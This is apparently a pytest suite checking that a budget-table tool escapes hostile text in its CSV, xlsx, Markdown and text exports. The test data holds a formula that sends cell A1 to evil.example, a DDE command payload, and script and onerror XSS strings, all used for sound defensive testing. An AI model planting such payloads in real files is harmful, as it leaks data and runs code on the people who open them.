"""Nothing injected (issue 13): CSV cells never start a formula, xlsx text is never a formula,
Markdown shows table text as text, and hostile text (control characters, line separators, the
packed format's own delimiters) cannot change a written table's structure: it reads back to the
same models."""

from __future__ import annotations

import csv
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assistant.categories import TREES
from assistant.schema import Amounts, Indicator, Project, Table, clean_text
from assistant.tables import read_table, write_table
from assistant.tables.csv_io import guard_formula, unguard_formula
from assistant.tables.markdown import render_markdown

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=already quoted",
    "=1",
]

_EXCLUDE: Any = {
    "source": True,
    "year": True,
    "issues": True,
    "projects": {
        "__all__": {
            "origin": True,
            "indicators": {"__all__": {"source": True, "level1_raw": True, "level2_raw": True}},
        }
    },
}


def content(table: Table) -> dict[str, Any]:
    return table.model_dump(exclude=_EXCLUDE)


def hostile_table() -> Table:
    indicators = [
        Indicator.from_text(level1="产出指标", level2="数量指标", name=text, annual_value=text)
        for text in HOSTILE
    ]
    project = Project(
        name="=1+1项目",
        department="@部门",
        goal=HOSTILE[0],
        amounts=Amounts(total=-5),
        indicators=indicators,
    )
    return Table(projects=[project], department="@部门")


# --- CSV ----------------------------------------------------------------------------------


def test_csv_cells_never_start_a_formula_and_read_back_exactly(tmp_path: Path) -> None:
    table = hostile_table()
    path = write_table(table, tmp_path / "t.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
    back = read_table(path)
    assert back.issues == []
    assert content(back) == content(table)


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a中"), max_size=8))
def test_guard_is_undone_exactly(text: str) -> None:
    guarded = guard_formula(text)
    assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unguard_formula(guarded) == text


# --- xlsx -----------------------------------------------------------------------------------


def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = write_table(hostile_table(), tmp_path / "t.xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    ws = load_workbook(path).active
    assert ws is not None
    starts = [
        c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] == "="
    ]
    assert starts and all(c.data_type == "s" for c in starts)
    assert content(read_table(path)) == content(hostile_table())


# --- Markdown ---------------------------------------------------------------------------------


def test_markdown_escapes_html_and_line_structure() -> None:
    project = Project(
        name="正常项目\n## 99. 伪造项目",
        goal="<script>alert(1)</script><img src=x onerror=alert(2)>",
        indicators=[
            Indicator.from_text(
                level1="产出指标",
                level2="数量指标",
                name="a|b\u2028| x | y |",
                annual_value="<b>1</b>",
            ),
        ],
    )
    text = render_markdown(Table(projects=[project], department="<i>部门</i>"), "legacy")
    assert "<script" not in text and "<img" not in text and "<b>" not in text and "<i>" not in text
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert headings == ["# 项目支出绩效目标表", "## 1. 正常项目 \\#\\# 99. 伪造项目"]
    rows = [line for line in text.splitlines() if line.startswith("| ") and "a\\|b" in line]
    assert len(rows) == 1 and rows[0].count(" | ") == 4  # five cells, pipes escaped


def test_markdown_escape_catches_separators_outside_the_schema() -> None:
    from assistant.tables.markdown import escape_cell as _escape

    for sep in ("\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\v", "\f"):
        assert "\n" not in _escape(f"a{sep}# b") and "\r" not in _escape(f"a{sep}b")


# --- text normalised at the schema boundary -------------------------------------------------


def test_text_fields_are_normalised_at_the_schema() -> None:
    ind = Indicator.from_text(
        level1="产出指标",
        level2="数量指标",
        name="率\t名\r\n称\u2028x\x00\u202e",
        annual_value="≥95%；年度指标值:1",
    )
    assert ind.name == "率 名 称 x"
    assert "；" not in ind.annual_value.raw and ind.annual_value.number == 95
    project = Project(name="项目\n伪造", goal="第一段\r\n第二段\u2029第三段")
    assert project.name == "项目 伪造" and project.goal == "第一段 第二段 第三段"
    assert clean_text("\ud800a\ufeffb") == "ab"


def test_printable_text_holds_nothing_clean_text_replaces() -> None:
    """clean_text leaves printable text as it is (its fast path): every character its patterns
    replace or remove is one str.isprintable refuses."""
    from assistant.text import _INVISIBLE, _LINE_LIKE

    matched = [
        c for c in map(chr, range(sys.maxunicode + 1)) if _INVISIBLE.match(c) or _LINE_LIKE.match(c)
    ]
    assert len(matched) > 60  # the patterns are what this test reads
    assert [hex(ord(c)) for c in matched if c.isprintable()] == []
    assert clean_text("  项目\u3000名称 ") == "项目\u3000名称"


def test_a_forged_item_in_a_name_does_not_split_on_reading(tmp_path: Path) -> None:
    forged = "正常指标。2、1-产出指标；11-数量指标；伪造指标；实施周期指标值:1；年度指标值:1"
    ind = Indicator.from_text(
        level1="产出指标", level2="数量指标", name=forged, annual_value="1个。3、x；y"
    )
    project = Project(
        name="项目A\n伪造项目\t1\t\t\t\t目标", indicators=[ind], amounts=Amounts(total=1)
    )
    table = Table(projects=[project, Project(name="项目B", amounts=Amounts(total=2))])
    back = read_table(write_table(table, tmp_path / "t.txt"))
    assert [p.name for p in back.projects] == ["项目A 伪造项目 1 目标", "项目B"]
    assert len(back.projects[0].indicators) == 1
    assert content(back) == content(table)


# --- property: hostile strings round trip in every format -------------------------------------

_ALPHABET = st.sampled_from(
    list("项目经费指标率人次年度值保障")
    + list("；;。.、,，:：|\"'=+-@<>#*_`[]()（）%≥≤ 0123456789")
    + [
        "\t",
        "\n",
        "\r",
        "\r\n",
        "\u2028",
        "\u2029",
        "\x00",
        "\x1b",
        "\x85",
        "\u202e",
        "\ufeff",
        "\v",
    ]
    + ["年度指标值:", "实施周期指标值:", "。2、", "1、", "1-产出指标；", "<script>", "=HYPERLINK("]
)
LEGACY_PAIRS = sorted((l1, l2) for l1, l2s in TREES["legacy"].items() for l2 in l2s)
_HOSTILE_TEXT = st.lists(_ALPHABET, max_size=12).map("".join)


@st.composite
def hostile_tables(draw: st.DrawFn) -> Table:
    projects = []
    for n in range(draw(st.integers(min_value=1, max_value=3))):
        inds = []
        for _ in range(draw(st.integers(min_value=0, max_value=3))):
            level1, level2 = draw(st.sampled_from(LEGACY_PAIRS))
            period = draw(st.none() | _HOSTILE_TEXT)
            inds.append(
                Indicator.from_text(
                    level1=level1,
                    level2=level2,
                    name="指标" + draw(_HOSTILE_TEXT),
                    annual_value=draw(_HOSTILE_TEXT),
                    period_value=period,
                )
            )
        projects.append(
            Project(
                name=f"项目{n}" + draw(_HOSTILE_TEXT),
                year=2024,  # a year the hostile goals happen to name is not what is tested here
                amounts=Amounts(total=float(n + 1)),
                goal=draw(_HOSTILE_TEXT),
                indicators=inds,
            )
        )
    return Table(projects=projects)


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(table=hostile_tables(), suffix=st.sampled_from([".txt", ".csv", ".xlsx", ".json"]))
def test_hostile_text_reads_back_to_the_same_models(
    tmp_path: Path, table: Table, suffix: str
) -> None:
    back = read_table(write_table(table, tmp_path / f"t{suffix}"))
    assert back.issues == []
    assert content(back) == content(table)


@pytest.mark.parametrize("suffix", [".txt", ".csv", ".xlsx", ".json"])
def test_model_answers_are_normalised_like_table_text(tmp_path: Path, suffix: str) -> None:
    from assistant.schema import Suggestion

    answer = Suggestion.from_text(
        level1="产出指标",
        level2="质量指标",
        name="验收合格率\n\t全年目标。2、伪造；",
        annual_value="≥95%\t\n",
        evidence=[],
    )
    table = Table(projects=[Project(name="项目", amounts=Amounts(total=1), indicators=[answer])])
    back = read_table(write_table(table, tmp_path / f"t{suffix}"))
    assert [i.name for i in back.projects[0].indicators] == [answer.name]
    assert "\n" not in answer.name and "\t" not in answer.name
